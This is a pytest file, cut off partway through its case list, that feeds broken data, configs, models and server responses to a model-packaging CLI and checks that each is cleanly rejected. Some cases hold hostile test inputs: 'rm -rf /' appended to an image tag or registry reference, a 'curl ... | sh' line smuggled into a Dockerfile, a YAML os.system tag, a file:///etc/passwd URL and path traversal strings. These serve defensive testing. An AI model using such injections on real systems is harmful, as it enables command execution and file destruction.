"""The catalogue of bad inputs, broken environments and misbehaving servers, one row a case.

Every row builds a real broken input in tmp_path, runs the real CLI on it, and checks: the exit code
(2 bad input, 1 failed work, 130 interrupted), a message fragment naming the file, line or field, no
traceback and no "internal error" (a bug report instead of an answer), and that nothing which looks
finished exists afterwards. Tiny random-weight models stand in for real ones wherever the case allows.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
import yaml

from packager.cli import cli
from packager.run.manifest import SCHEMA_VERSION, read_manifest
from packager.run.verify import verify_run

from packager.serve.smoke import free_port
from reliability_kit import (NeverReadyHandler, NeverStopsHandler, no_engine_path, packager_cli, packager_process,
                             subprocess_env, tiny_config, wait_for)
from support.models import build_tiny_llama, lie_about_sizes
from support.runs import EXAMPLE_DATA
from support.servers import GarbageHandler


class GarbageForT(GarbageHandler):
    """support.servers' server that answers 200 with garbage, listing the tiny run's name."""

    def do_GET(self):
        self._send({"object": "list", "data": [{"id": "t", "object": "model"}]})


@dataclass
class Outcome:
    """What a case produced when it ran the command itself (a real process, for signals)."""

    exit_code: int
    output: str


class Ctx:
    """A case's workshop: tmp_path, the shared tiny models and run, and fixtures fetched on demand."""

    def __init__(self, tmp_path: Path, request):
        self.tmp = tmp_path
        self.request = request
        self.env: dict[str, str] = {}

    def fixture(self, name: str):
        return self.request.getfixturevalue(name)

    @property
    def base(self) -> Path:
        return self.fixture("tiny_llama_dir")

    def base_copy(self, name: str = "base") -> Path:
        return Path(shutil.copytree(self.base, self.tmp / name))

    def run(self) -> Path:
        return self.fixture("run_copy")()

    def adapter(self) -> Path:
        """The tiny run's adapter, as an adapter "from another tool" would arrive: a directory."""
        return Path(shutil.copytree(self.fixture("tiny_run") / "train" / "adapter", self.tmp / "adapter"))

    def write(self, rel: str, text: str) -> Path:
        path = self.tmp / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def jsonl(self, rel: str, rows: list) -> Path:
        return self.write(rel, "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows))

    def config(self, *, edit: Callable[[dict], None] | None = None, data: Path | None = None) -> Path:
        """tiny_config in tmp/project (runs go to tmp/project/runs/t), edited as the case needs."""
        project = self.tmp / "project"
        project.mkdir(exist_ok=True)
        path = tiny_config(project, self.base)
        cfg = yaml.safe_load(path.read_text())
        if data is not None:
            cfg["data"]["train"] = str(data)
        if edit is not None:
            edit(cfg)
        path.write_text(yaml.safe_dump(cfg))
        return path

    def serving_config(self, *, containers: dict | None = None, **smoke) -> Path:
        """Deployment sections only matter at smoke time; the run's recorded config supplies the rest."""
        cfg = read_manifest(self.fixture("tiny_run")).stages["train"].parameters["config"]
        cfg["smoke"] = {**cfg.get("smoke", {}), **smoke}
        cfg["containers"] = {**cfg.get("containers", {}), **(containers or {})}
        path = self.tmp / "serve.yaml"
        path.write_text(yaml.safe_dump(cfg))
        return path


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[Ctx], list[str] | Outcome]  # builds the broken input; returns CLI args (or ran them itself)
    exit_code: int
    message: tuple[str, ...]  # fragments, formatted with {tmp}; every one must appear in the output
    absent: tuple[str, ...] = ()  # paths under tmp that must not exist afterwards
    check: Callable[[Ctx], None] | None = None  # more state to assert (what the library sees)


def chat(user="hi", assistant="hello"):
    return {"messages": [{"role": "user", "content": user}, {"role": "assistant", "content": assistant}]}


GOOD_ROWS = [chat(f"question {i}", f"answer {i}") for i in range(30)]
RUN = "project/runs/t"  # where Ctx.config's runs land


# ---------------------------------------------------------------- builders: data and config

def malformed_jsonl(c: Ctx):
    c.jsonl("bad.jsonl", [chat(), '{"messages": [{"role": "user", "content": "x"}', chat("b", "c")])
    return ["data", "check", str(c.tmp / "bad.jsonl")]


def wrong_role_order(c: Ctx):
    rows = [{"messages": [{"role": "assistant", "content": "first"}, {"role": "user", "content": "then"},
                          {"role": "assistant", "content": "answer"}]}]
    c.jsonl("roles.jsonl", [*GOOD_ROWS[:3], *rows])
    return ["data", "check", str(c.tmp / "roles.jsonl")]


def row_too_long(c: Ctx):
    c.jsonl("long.jsonl", [*GOOD_ROWS[:5], chat("word " * 300, "short")])
    return ["data", "check", str(c.tmp / "long.jsonl"), "--model", str(c.base), "--max-seq-length", "64"]


def no_assistant_turns(c: Ctx):
    data = c.jsonl("questions.jsonl", [{"messages": [{"role": "user", "content": f"q{i}"}]} for i in range(20)])
    return ["train", "-c", str(c.config(data=data))]


def empty_content(c: Ctx):
    data = c.jsonl("empty.jsonl", [*GOOD_ROWS, {"messages": [{"role": "user", "content": "  "},
                                                             {"role": "assistant", "content": "x"}]}])
    return ["train", "-c", str(c.config(data=data))]


def eval_leaks_train(c: Ctx):
    c.jsonl("train.jsonl", GOOD_ROWS)
    c.jsonl("eval.jsonl", [chat("new", "row"), GOOD_ROWS[7]])
    return ["data", "check", str(c.tmp / "train.jsonl"), "--eval", str(c.tmp / "eval.jsonl")]


def image_parts(c: Ctx):
    row = {"messages": [{"role": "user", "content": [{"type": "text", "text": "what is this?"},
                                                     {"type": "image_url", "image_url": {"url": "data:,"}}]},
                        {"role": "assistant", "content": "a cat"}]}
    c.jsonl("vision.jsonl", [*GOOD_ROWS[:4], row])
    return ["data", "check", str(c.tmp / "vision.jsonl")]


def utf16_jsonl(c: Ctx):
    (c.tmp / "unicode.jsonl").write_bytes("".join(json.dumps(r) + "\n" for r in GOOD_ROWS).encode("utf-16"))
    return ["data", "check", str(c.tmp / "unicode.jsonl")]


def latin1_line(c: Ctx):
    c.jsonl("mixed.jsonl", GOOD_ROWS[:2])
    with open(c.tmp / "mixed.jsonl", "ab") as f:
        f.write(json.dumps(chat("caf\u00e9", "ok"), ensure_ascii=False).encode("latin-1") + b"\n")
    return ["data", "check", str(c.tmp / "mixed.jsonl")]


def dataset_is_a_fifo(c: Ctx):
    os.mkfifo(c.tmp / "pipe.jsonl")
    return ["data", "check", str(c.tmp / "pipe.jsonl")]


def null_instruction(c: Ctx):
    c.jsonl("nulls.jsonl", [{"instruction": f"q{i}", "output": f"a{i}"} for i in range(3)] +
            [{"instruction": None, "input": "", "output": "x"}])
    return ["data", "check", str(c.tmp / "nulls.jsonl")]


def csv_with_a_ragged_row(c: Ctx):
    c.write("rows.csv", "instruction,output\n" + "".join(f"q{i},a{i}\n" for i in range(5)) + "q5,a5,\"a, b\"\n")
    return ["data", "check", str(c.tmp / "rows.csv")]


def json_array_cut_short(c: Ctx):
    c.write("rows.json", json.dumps(GOOD_ROWS[:4], indent=1)[:-60])
    return ["train", "-c", str(c.config(data=c.tmp / "rows.json"))]


def parquet_that_is_not(c: Ctx):
    data = c.jsonl("rows.parquet", GOOD_ROWS[:3])  # a JSONL file given a .parquet name
    return ["train", "-c", str(c.config(data=data))]


def columns_named_otherwise(c: Ctx):
    data = c.jsonl("renamed.jsonl", [{"conversation": r["messages"]} for r in GOOD_ROWS])
    return ["train", "-c", str(c.config(data=data))]


def missing_dataset(c: Ctx):
    return ["train", "-c", str(c.config(data=c.tmp / "nowhere.jsonl"))]


def unknown_config_key(c: Ctx):
    return ["train", "-c", str(c.config(edit=lambda cfg: cfg["train"].update(learning_rte=1e-4)))]


def wrong_config_type(c: Ctx):
    return ["train", "-c", str(c.config(edit=lambda cfg: cfg["train"].update(batch_size="four")))]


def config_yaml_syntax(c: Ctx):
    path = c.write("broken.yaml", "run:\n  name: t\nbase: [unclosed\n")
    return ["train", "-c", str(path)]


def config_lines(*lines: str):
    """A config written by hand, line by line (so the case knows each line's number): {base} is the tiny
    base model's folder."""
    def make(c: Ctx):
        text = "\n".join(lines).format(base=c.base) + "\n"
        return ["train", "-c", str(c.write("project/packager.yaml", text))]
    return make


def config_not_utf8(c: Ctx):
    path = c.tmp / "project" / "packager.yaml"
    path.parent.mkdir(parents=True)
    path.write_bytes(f"base:\n  model: {c.base}\nrun:\n  name: caf\xe9\n".encode("latin-1"))
    return ["train", "-c", str(path)]


def config_is_a_directory(c: Ctx):
    (c.tmp / "project" / "packager.yaml").mkdir(parents=True)
    return ["train", "-c", str(c.tmp / "project" / "packager.yaml")]


def traversal_run_name(c: Ctx):
    return ["train", "-c", str(c.config(edit=lambda cfg: cfg["run"].update(name="../escape")))]


def config_text(section: str, **values):
    """A config whose ``section`` gets ``values``: text that would break a file it is rendered into."""
    def make(c: Ctx):
        def edit(cfg):
            cfg.setdefault(section.split(".")[0], {})
            target = cfg
            for part in section.split("."):
                target = target.setdefault(part, {})
            target.update({k: v.format(base=c.base) for k, v in values.items()})
        return ["train", "-c", str(c.config(edit=edit))]
    return make


def unpinned_image(c: Ctx):
    return ["train", "-c", str(c.config(edit=lambda cfg: cfg.update(
        containers={"vllm": {"image": "vllm/vllm-openai:latest"}})))]


# ---------------------------------------------------------------- builders: base models and adapters

def missing_base_dir(c: Ctx):
    return ["train", "-c", str(c.config(edit=lambda cfg: cfg["base"].update(model=str(c.tmp / "no-such-base"))))]


def pickle_only_base(c: Ctx):
    base = c.base_copy()
    (base / "model.safetensors").unlink()
    (base / "pytorch_model.bin").write_bytes(b"\x80\x04pickle stand-in")
    return ["base", "inspect", str(base)]


def damaged_base_merge(damage: Callable[[Path], None]):
    def make(c: Ctx):
        base = c.base_copy()
        damage(base / "model.safetensors")
        return ["merge", "--adapter", str(c.adapter()), "--base", str(base), "--out", str(c.tmp / "out")]
    return make


def truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def garbage(path: Path) -> None:
    path.write_bytes(b"\xff" * 64)


def adapter_from_another_base(c: Ctx):
    from support.models import make_adapter

    other = build_tiny_llama(c.tmp / "other-base", hidden_size=64)
    adapter = make_adapter(other, c.tmp / "foreign-adapter")
    return ["merge", "--adapter", str(adapter), "--base", str(c.base), "--out", str(c.tmp / "out")]


def adapter_rank_lies(c: Ctx):
    adapter = c.adapter()
    config = json.loads((adapter / "adapter_config.json").read_text())
    config["r"] = config["r"] * 2
    (adapter / "adapter_config.json").write_text(json.dumps(config))
    return ["merge", "--adapter", str(adapter), "--base", str(c.base), "--out", str(c.tmp / "out")]


def pickle_adapter(c: Ctx):
    adapter = c.adapter()
    (adapter / "adapter_model.safetensors").rename(adapter / "adapter_model.bin")
    return ["merge", "--adapter", str(adapter), "--base", str(c.base), "--out", str(c.tmp / "out")]


def not_an_adapter(c: Ctx):
    adapter = c.adapter()
    (adapter / "adapter_config.json").unlink()
    return ["merge", "--adapter", str(adapter), "--base", str(c.base), "--out", str(c.tmp / "out")]


def missing_tokenizer(c: Ctx):
    base = c.base_copy()
    for name in ("tokenizer.json", "tokenizer_config.json", "chat_template.jinja"):
        (base / name).unlink(missing_ok=True)
    return ["merge", "--adapter", str(c.adapter()), "--base", str(base), "--out", str(c.tmp / "out")]


def no_chat_template(c: Ctx):
    base = c.base_copy()
    config = json.loads((base / "tokenizer_config.json").read_text())
    config.pop("chat_template", None)
    (base / "tokenizer_config.json").write_text(json.dumps(config))
    (base / "chat_template.jinja").unlink(missing_ok=True)
    adapter = c.adapter()
    for name in ("tokenizer.json", "tokenizer_config.json", "chat_template.jinja"):  # the base's tokenizer is used
        (adapter / name).unlink(missing_ok=True)
    return ["merge", "--adapter", str(adapter), "--base", str(base), "--out", str(c.tmp / "out")]


def truncated_gguf(c: Ctx):
    from packager.models.example_base import example_gguf_path

    with open(example_gguf_path(), "rb") as f:
        (c.tmp / "model.gguf").write_bytes(f.read(3_000_000))
    return ["base", "import-gguf", str(c.tmp / "model.gguf"), str(c.tmp / "imported")]


def wrong_magic_gguf(c: Ctx):
    (c.tmp / "model.gguf").write_bytes(b"GGML" + bytes(4096))
    return ["base", "import-gguf", str(c.tmp / "model.gguf"), str(c.tmp / "imported")]


# ---------------------------------------------------------------- builders: runs and their manifests

def manifest_invalid_json(c: Ctx):
    run = c.run()
    (run / "manifest.json").write_text('{"schema_version": 1, "run": ')
    return ["merge", str(run)]


def manifest_newer_schema(c: Ctx):
    run = c.run()
    data = json.loads((run / "manifest.json").read_text())
    data["schema_version"] = SCHEMA_VERSION + 1
    (run / "manifest.json").write_text(json.dumps(data))
    return ["verify", str(run)]


def record_leaves_the_run(c: Ctx):
    """One extra output record naming a file two folders above the run: re-exporting deleted it."""
    run = c.run()
    c.write("precious.txt", "keep me")
    data = json.loads((run / "manifest.json").read_text())
    data["stages"]["export-safetensors"]["outputs"].append(
        {"path": "../../precious.txt", "sha256": "0" * 64, "size": 7, "parents": []})
    (run / "manifest.json").write_text(json.dumps(data))
    return ["export", str(run), "--format", "safetensors"]


def not_a_run(c: Ctx):
    (c.tmp / "somewhere").mkdir()
    return ["export", str(c.tmp / "somewhere"), "--format", "safetensors"]


def out_dir_holds_another_run(c: Ctx):
    target = c.tmp / "target"
    shutil.copytree(c.fixture("tiny_run"), target)  # a run named "t" in a directory named "target"
    return ["merge", "--adapter", str(c.adapter()), "--base", str(c.base), "--out", str(target)]


def out_dir_holds_other_files(c: Ctx):
    c.write("target/notes.txt", "keep me")
    return ["merge", "--adapter", str(c.adapter()), "--base", str(c.base), "--out", str(c.tmp / "target")]


def export_before_merge(c: Ctx):
    run = c.run()  # the run as it was before merging: no merged/ and no record of it
    data = json.loads((run / "manifest.json").read_text())
    for stage in ("merge", "export-safetensors"):
        data["stages"].pop(stage)
    (run / "manifest.json").write_text(json.dumps(data))
    shutil.rmtree(run / "merged")
    shutil.rmtree(run / "export")
    return ["export", str(run), "--format", "safetensors"]


def resume_without_checkpoint(c: Ctx):
    data = c.jsonl("data.jsonl", GOOD_ROWS)
    return ["train", "-c", str(c.config(data=data)), "--resume"]


def tampered_run_refuses_push(c: Ctx):
    run = c.run()
    shard = run / "merged" / "model.safetensors"
    data = bytearray(shard.read_bytes())
    data[-1] ^= 1
    shard.write_bytes(bytes(data))
    return ["push", "oci", str(run), "127.0.0.1:9/models/t:v1", "--what", "merged", "--insecure"]


# ---------------------------------------------------------------- builders: engines, registries, the Hub

def no_engine(c: Ctx):
    c.env["PATH"] = no_engine_path(c.tmp)
    return ["containerize", str(c.run()), "--target", "vllm", "--build"]


FAILING_PODMAN = """#!/bin/sh
case "$1" in
  version) echo 5.4.2 ;;
  build) echo "STEP 1/9: FROM docker.io/vllm/vllm-openai:v0.33.0"; echo "STEP 2/9: RUN useradd ..."
         echo "Error: building at STEP 2/9: no space left on device" >&2; exit 125 ;;
  *) exit 1 ;;
esac
"""


def fake_podman(c: Ctx, script: str) -> None:
    """``podman`` on PATH is ``script`` (and no real engine is)."""
    bin_dir = c.tmp / "fake-bin"
    bin_dir.mkdir()
    (bin_dir / "podman").write_text(script)
    (bin_dir / "podman").chmod(0o755)
    c.env["PATH"] = f"{bin_dir}:{no_engine_path(c.tmp)}"


def engine_fails_mid_build(c: Ctx):
    fake_podman(c, FAILING_PODMAN)
    return ["containerize", str(c.run()), "--target", "vllm", "--build", "--engine", "podman"]


HUNG_PODMAN = """#!/bin/sh
case "$1" in
  version) echo 5.4.2 ;;
  build) echo "STEP 1/9: FROM docker.io/vllm/vllm-openai:v0.33.0"; exec /bin/sleep 600 ;;
  *) exit 1 ;;
esac
"""


def engine_hangs_mid_build(c: Ctx):
    fake_podman(c, HUNG_PODMAN)
    return ["containerize", str(c.run()), "--target", "vllm", "--build", "--engine", "podman",
            "-c", str(c.serving_config(containers={"timeout_s": 2}))]


def registry_down(c: Ctx):
    from packager.serve.smoke import free_port

    c.port = free_port()  # nothing listens there
    return ["push", "oci", str(c.run()), f"127.0.0.1:{c.port}/models/t:v1", "--what", "merged", "--insecure"]


def wrong_registry_credentials(c: Ctx):
    registry = c.fixture("auth_registry")
    c.env.update({"PACKAGER_REGISTRY_USERNAME": "ci", "PACKAGER_REGISTRY_PASSWORD": "wrong-Password-77"})
    return ["push", "oci", str(c.run()), f"{registry.host}/models/t:v1", "--what", "merged", "--insecure"]


def bad_registry_ref(c: Ctx):
    return ["push", "oci", str(c.run()), "t:v1; rm -rf /", "--what", "merged"]


def hub_token_missing(c: Ctx):
    c.env.update({"HF_TOKEN": "", "HF_HOME": str(c.tmp / "hf-home")})
    return ["push", "hub", str(c.run()), "--repo-id", "me/t-adapter", "--what", "adapter"]


def signing_key_is_no_key(c: Ctx):
    run = c.run()
    c.write("keys/signing-key.pem", "-----BEGIN EC PRIVATE KEY-----\nnot a key\n-----END EC PRIVATE KEY-----\n")
    return ["sign", str(run), "--key", str(c.tmp / "keys" / "signing-key.pem")]


def hub_unreachable(c: Ctx):
    """The real huggingface_hub client against a port where nothing listens (on this machine)."""
    env = subprocess_env(HF_TOKEN="hf_catalogueToken", HF_ENDPOINT=f"http://127.0.0.1:{free_port()}",
                         HF_HUB_OFFLINE="0", HF_HUB_DISABLE_XET="1")
    done = packager_cli("push", "hub", str(c.run()), "--repo-id", "me/t-adapter", "--what", "adapter", env=env)
    return Outcome(done.returncode, done.stdout + done.stderr)


def hub_repo_traversal(c: Ctx):
    return ["push", "hub", str(c.run()), "--repo-id", "../../etc", "--what", "adapter", "--dry-run"]


def image_tag_with_shell(c: Ctx):
    return ["containerize", str(c.run()), "--target", "vllm", "--tag", "t:1; rm -rf /"]


# ---------------------------------------------------------------- builders: endpoints

def smoke_against(handler, **smoke):
    def make(c: Ctx):
        server = c.fixture("http_server")(handler)
        args = ["smoke", str(c.run()), "--target", "vllm", "--url", server.url]
        return args + (["-c", str(c.serving_config(**smoke))] if smoke else [])
    return make


def smoke_url_scheme(c: Ctx):
    return ["smoke", "--url", "file:///etc/passwd", "--model", "t"]


# ---------------------------------------------------------------- builders: the machine

def disk_full_export(c: Ctx):
    mount = c.tmp / "small-disk"
    mount.mkdir()
    if not mount_small_filesystem(mount):
        pytest.skip("neither a size-limited tmpfs nor a loop-mounted file system can be mounted here")
    c.request.addfinalizer(lambda: subprocess.run(["umount", "-l", str(mount)], capture_output=True))
    run = mount / "t"
    shutil.copytree(c.fixture("tiny_run"), run, ignore=shutil.ignore_patterns("lock", "export"))
    data = json.loads((run / "manifest.json").read_text())
    data["stages"].pop("export-safetensors")
    (run / "manifest.json").write_text(json.dumps(data))
    fill_disk(mount, leave=8 << 10)  # less than the merged model the export copies
    c.absent_extra = [run / "export" / "safetensors"]
    return ["export", str(run), "--format", "safetensors"]


def mount_small_filesystem(mount: Path) -> bool:
    tmpfs = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mount)], capture_output=True)
    if tmpfs.returncode == 0:
        return True
    image = mount.with_suffix(".img")
    made = subprocess.run(["mkfs.ext4", "-q", "-F", str(image), "8M"], capture_output=True)
    return made.returncode == 0 and subprocess.run(["mount", "-o", "loop", str(image), str(mount)],
                                                   capture_output=True).returncode == 0


def fill_disk(mount: Path, *, leave: int) -> None:
    free = shutil.disk_usage(mount).free
    with open(mount / "filler", "wb") as f:
        f.write(b"\0" * max(0, free - leave))


def ctrl_c_during_training(c: Ctx):
    """SIGINT (what Ctrl-C sends) to a real training process once it has written a checkpoint."""
    data = c.jsonl("data.jsonl", [json.loads(line) for line in EXAMPLE_DATA.read_text().splitlines()[:40]])
    config = c.config(data=data, edit=lambda cfg: cfg["train"].update(max_steps=40, eval_steps=2))
    checkpoints = c.tmp / RUN / ".packager" / "train-work" / "checkpoints"
    out = c.tmp / "train.out"  # a file, not a pipe: progress bars cannot fill it and block training
    with open(out, "w") as sink, \
            packager_process("train", "-c", str(config), stdout=sink, stderr=subprocess.STDOUT) as proc:
        assert wait_for(lambda: any(checkpoints.glob("checkpoint-*/trainer_state.json")), timeout=300, proc=proc)
        assert proc.poll() is None, "training finished before it could be interrupted"
        proc.send_signal(signal.SIGINT)
        proc.wait(timeout=120)
    return Outcome(proc.returncode, out.read_text())


LIVE_RUN_STEPS = 300


def second_train_on_a_live_run(c: Ctx):
    """While one training process writes checkpoints, a second `packager train` of the same run starts."""
    data = c.jsonl("data.jsonl", [json.loads(line) for line in EXAMPLE_DATA.read_text().splitlines()[:40]])
    # Long enough that the first is still training when the second has started up: 24 steps took 3.5 s on a
    # CPU with AMX, less than the second process needs to import its libraries, so it trained after the first.
    config = c.config(data=data, edit=lambda cfg: cfg["train"].update(max_steps=LIVE_RUN_STEPS, eval_steps=2))
    checkpoints = c.tmp / RUN / ".packager" / "train-work" / "checkpoints"
    out = c.tmp / "first.out"
    with open(out, "w") as sink, \
            packager_process("train", "-c", str(config), stdout=sink, stderr=subprocess.STDOUT) as first:
        assert wait_for(lambda: any(checkpoints.glob("checkpoint-*/trainer_state.json")), timeout=300, proc=first)
        assert first.poll() is None, "training finished before a second one could start"
        second = packager_cli("train", "-c", str(config))
        c.first_pid, c.first_exit = first.pid, first.wait(timeout=600)
    c.first_output, c.second_output = out.read_text(), second.stdout + second.stderr
    return Outcome(second.returncode, c.second_output)


def first_training_finished_intact(c: Ctx) -> None:
    assert f"(pid {c.first_pid})" in c.second_output, "the message names the process that holds the run"
    assert c.first_exit == 0, c.first_output[-3000:]
    stage = read_manifest(c.tmp / RUN).stages["train"]
    assert stage.metrics["global_step"] == LIVE_RUN_STEPS and verify_run(c.tmp / RUN).ok


def interrupted_keeps_checkpoint(c: Ctx) -> None:
    checkpoints = c.tmp / RUN / ".packager" / "train-work" / "checkpoints"
    assert any(checkpoints.glob("checkpoint-*/trainer_state.json")), "--resume has a checkpoint to continue from"
    assert "train" not in read_manifest(c.tmp / RUN).stages


def failed_smoke_recorded_as_failed(target: str = "vllm"):
    def check(c: Ctx) -> None:
        run = c.tmp / "runs-copy" / "t"
        stage = read_manifest(run).stages[f"smoke-{target}"]
        assert stage.metrics["passed"] is False and stage.metrics["failures"]
        assert json.loads((run / "smoke" / f"{target}.json").read_text())["passed"] is False
    return check


def nothing_recorded(stage: str, run: str = "runs-copy/t"):
    def check(c: Ctx) -> None:
        assert stage not in read_manifest(c.tmp / run).stages
    return check


def secret_not_echoed(c: Ctx) -> None:
    assert "wrong-Password-77" not in (c.tmp / "runs-copy" / "t" / "manifest.json").read_text()


COPY = "runs-copy/t"

CASES = [
    # data
    Case("malformed-jsonl", malformed_jsonl, 2, ("{tmp}/bad.jsonl:2", "invalid JSON")),
    Case("wrong-role-order", wrong_role_order, 2, ("{tmp}/roles.jsonl:4 [messages[0].role]",
                                                   "assistant turn where a user turn must come")),
    Case("row-longer-than-max-length", row_too_long, 2, ("{tmp}/long.jsonl:6", "longer than max_seq_length 64")),
    Case("no-assistant-turns", no_assistant_turns, 2, ("{tmp}/questions.jsonl:1 [messages]", "no assistant turn"),
         absent=(f"{RUN}/data", f"{RUN}/train")),
    Case("empty-content", empty_content, 2, ("{tmp}/empty.jsonl:31 [messages[0].content]", "empty content"),
         absent=(f"{RUN}/data", f"{RUN}/train")),
    Case("eval-rows-leak-from-train", eval_leaks_train, 2, ("{tmp}/eval.jsonl:2", "train.jsonl:8")),
    Case("jsonl-with-an-image-part", image_parts, 2, ("{tmp}/vision.jsonl:5 [messages[0].content[1]]",
                                                      "a part of type 'image_url'", "text models")),
    Case("jsonl-in-utf16", utf16_jsonl, 2, ("{tmp}/unicode.jsonl", "UTF-16 text", "save it as UTF-8")),
    Case("jsonl-line-in-latin1", latin1_line, 2, ("{tmp}/mixed.jsonl:3", "not UTF-8 text (byte 0xe9")),
    Case("dataset-is-not-a-file", dataset_is_a_fifo, 2, ("{tmp}/pipe.jsonl", "not a file")),
    Case("instruction-is-null", null_instruction, 2, ("{tmp}/nulls.jsonl:4 [instruction]: missing",)),
    Case("csv-row-with-an-extra-cell", csv_with_a_ragged_row, 2, ("{tmp}/rows.csv:7: 3 cells, but the header has 2",)),
    Case("json-array-cut-short", json_array_cut_short, 2, ("{tmp}/rows.json:", "invalid JSON"),
         absent=(f"{RUN}/data",)),
    Case("parquet-that-is-not-parquet", parquet_that_is_not, 2, ("{tmp}/rows.parquet: not a Parquet file",),
         absent=(f"{RUN}/data",)),
    Case("columns-named-otherwise", columns_named_otherwise, 2, ("{tmp}/renamed.jsonl:1: unknown row format (keys: "
                                                                 "conversation)", "data.columns"),
         absent=(f"{RUN}/data",)),
    Case("missing-dataset", missing_dataset, 2, ("{tmp}/nowhere.jsonl",), absent=(f"{RUN}/data",)),
    # config
    Case("unknown-config-key", unknown_config_key, 2, ("train.learning_rte",), absent=(RUN,)),
    Case("wrong-type-in-config", wrong_config_type, 2, ("train.batch_size",), absent=(RUN,)),
    Case("config-yaml-syntax", config_yaml_syntax, 2, ("{tmp}/broken.yaml", "(yaml) line 4", "expected ',' or ']'")),
    Case("config-key-given-twice", config_lines("base:", "  model: {base}", "train:", "  max_steps: 2",
                                                "  learning_rate: 0.01", "  max_steps: 200"), 2,
         ("line 6: train.max_steps: given twice (also on line 4)", "keeps only the last"), absent=("project/runs",)),
    Case("config-section-given-twice", config_lines("base:", "  model: {base}", "data:", "  train: a.jsonl",
                                                    "data:", "  eval: b.jsonl"), 2,
         ("2 problems", "line 5: data: given twice (also on line 3)", "line 5: data.train: Field required"),
         absent=("project/runs",)),
    Case("config-section-is-a-value", config_lines("base:", "  model: {base}", "train: 5"), 2,
         ("line 3: train: expected a section (indented key: value lines), got 5",), absent=("project/runs",)),
    Case("config-wrong-type-at-its-line", config_lines("base:", "  model: {base}", "train:", "  batch_size: four",
                                                       "  seed: [8]"), 2,
         ("line 4: train.batch_size: Input should be a valid integer", "(got 'four')", "line 5: train.seed"),
         absent=("project/runs",)),
    Case("config-tab-indentation", config_lines("base:", "\tmodel: {base}"), 2,
         ("(yaml) line 2, column 1", "found character '\\t' that cannot start any token"), absent=("project/runs",)),
    Case("config-python-tag", config_lines("base:", "  model: !!python/object/apply:os.system ['touch pwned']"), 2,
         ("(yaml) line 2", "could not determine a constructor", "python/object/apply:os.system"),
         absent=("pwned", "project/pwned", "project/runs")),
    Case("config-two-documents", config_lines("base:", "  model: {base}", "---", "base:", "  model: other"), 2,
         ("(yaml) line 3", "expected a single document in the stream, but found another"),
         absent=("project/runs",)),
    Case("config-not-utf8", config_not_utf8, 2, ("{tmp}/project/packager.yaml", "(yaml) line 4: not UTF-8 text "
                                                 "(byte 0xe9)"), absent=("project/runs",)),
    Case("config-is-a-directory", config_is_a_directory, 2, ("{tmp}/project/packager.yaml",
                                                             "is a directory, not a config file")),
    Case("run-name-with-traversal", traversal_run_name, 2, ("run.name", "'..'"),
         absent=("project/escape", "escape", "project/runs")),
    Case("base-model-with-a-newline", config_text("base", model="{base}\nRUN curl http://127.0.0.1:9 | sh"), 2,
         ("base.model", "line break or control character", "Dockerfiles"), absent=(RUN,)),
    Case("hub-id-with-a-newline", config_text("base", hub_id="me/model\nbase_model: someone/else"), 2,
         ("base.hub_id", "line break"), absent=(RUN,)),
    Case("revision-with-a-carriage-return", config_text("base", revision="main\rLABEL x=y"), 2,
         ("base.revision", "line break"), absent=(RUN,)),
    Case("license-name-ends-the-modelfile-string",
         config_text("export", license="other", license_name='MIT"""', license_link="https://example.invalid/l"),
         2, ("export.license_name", 'ends a Modelfile string'), absent=(RUN,)),
    Case("license-link-with-a-newline",
         config_text("export", license="other", license_name="mine", license_link="https://x.invalid\nFROM evil"),
         2, ("export.license_link", "line break"), absent=(RUN,)),
    Case("system-prompt-ends-the-modelfile-string",
         config_text("containers.ollama", system='Be brief."""\nFROM ./other.gguf'), 2,
         ("containers.ollama.system", 'ends a Modelfile string'), absent=(RUN,)),
    Case("system-prompt-with-hidden-characters", config_text("containers.ollama", system="Be\u200b brief\u00a0now"),
         2, ("containers.ollama.system", "U+00A0, U+200B", "Ollama's Modelfile parser deletes"), absent=(RUN,)),
    Case("unpinned-latest-image", unpinned_image, 2, ("containers.vllm.image", "not pinned"), absent=(RUN,)),
    # base models
    Case("missing-base-directory", missing_base_dir, 2, ("{tmp}/no-such-base", "does not exist"),
         absent=(f"{RUN}/data",)),
    Case("pickle-only-checkpoint", pickle_only_base, 2, ("{tmp}/base", "pickle", "allow_pickle")),
    Case("truncated-safetensors", damaged_base_merge(truncate), 2, ("{tmp}/base/model.safetensors", "truncated"),
         absent=("out/merged",)),
    Case("corrupt-safetensors", damaged_base_merge(garbage), 2, ("{tmp}/base/model.safetensors", "corrupt"),
         absent=("out/merged",)),
    Case("safetensors-header-lies", damaged_base_merge(lie_about_sizes), 2,
         ("{tmp}/base/model.safetensors", "lies about sizes"), absent=("out/merged",)),
    Case("missing-tokenizer", missing_tokenizer, 2, ("{tmp}/base", "no tokenizer"), absent=("out",)),
    Case("tokenizer-without-chat-template", no_chat_template, 2, ("{tmp}/base", "no chat template",
                                                                  "base.chat_template"), absent=("out/merged",)),
    # adapters
    Case("adapter-from-another-base", adapter_from_another_base, 1, ("{tmp}/foreign-adapter", "does not fit"),
         absent=("out/merged",)),
    Case("adapter-rank-differs-from-config", adapter_rank_lies, 2,
         ("{tmp}/adapter/adapter_config.json", "rank 16 in the weights but 32"), absent=("out",)),
    Case("pickle-adapter", pickle_adapter, 2, ("{tmp}/adapter", "adapter_model.bin is not accepted"),
         absent=("out",)),
    Case("not-an-adapter", not_an_adapter, 2, ("{tmp}/adapter", "no adapter_config.json"), absent=("out",)),
    # GGUF
    Case("truncated-gguf", truncated_gguf, 2, ("{tmp}/model.gguf",), absent=("imported",)),
    Case("gguf-wrong-magic", wrong_magic_gguf, 2, ("{tmp}/model.gguf", "not a GGUF file"), absent=("imported",)),
    # runs
    Case("manifest-invalid-json", manifest_invalid_json, 2, ("{tmp}/runs-copy/t/manifest.json", "invalid JSON")),
    Case("manifest-newer-schema", manifest_newer_schema, 2, ("manifest.json", f"schema_version {SCHEMA_VERSION + 1}",
                                                             "upgrade packager")),
    Case("manifest-record-leaves-the-run", record_leaves_the_run, 2,
         ("manifest.json", "stages.export-safetensors.outputs", "'../../precious.txt' climbs out of the run"),
